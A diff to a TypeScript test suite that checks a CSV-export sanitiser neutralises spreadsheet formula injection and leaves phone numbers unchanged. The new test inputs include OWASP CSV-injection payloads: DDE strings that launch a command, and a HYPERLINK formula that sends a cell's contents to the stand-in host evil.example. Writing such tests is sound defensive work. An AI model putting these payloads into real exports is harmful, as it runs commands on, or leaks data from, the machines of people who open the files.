@@ -11,8 +11,33 @@ import {
 import type { Student, Teacher } from './entities';
 
 describe('neutraliseFormula', () => {
-  it.each(['=SUM(A1)', '+91 98765', '-2', '@cmd', '\tx', '\rx'])('prefixes %j with an apostrophe', (cell) => {
+  // OWASP's CSV-injection payloads and the shapes a formula can take after a sign.
+  it.each([
+    '=SUM(A1)',
+    '=1+1',
+    '@SUM(1)',
+    '+1+1',
+    '-1+1',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    '+91 98765',
+    '+-1',
+    '-',
+    '@cmd',
+    '\tx',
+    '\t=1+1',
+    '\rx',
+    '\r=1+1',
+  ])('prefixes %j with an apostrophe', (cell) => {
     expect(neutraliseFormula(cell)).toBe(`'${cell}`);
+  });
+
+  it('keeps phone numbers and signed numbers as they are', () => {
+    expect(neutraliseFormula('+919876543210')).toBe('+919876543210');
+    expect(neutraliseFormula('-2')).toBe('-2');
   });
 
   it('leaves ordinary cells alone', () => {
@@ -56,7 +81,7 @@ describe('teacher export', () => {
         'Computer Science',
         'Active',
         '2025-03-04',
-        "'+919876543210",
+        '+919876543210',
         '7',
         '12',
         '30',
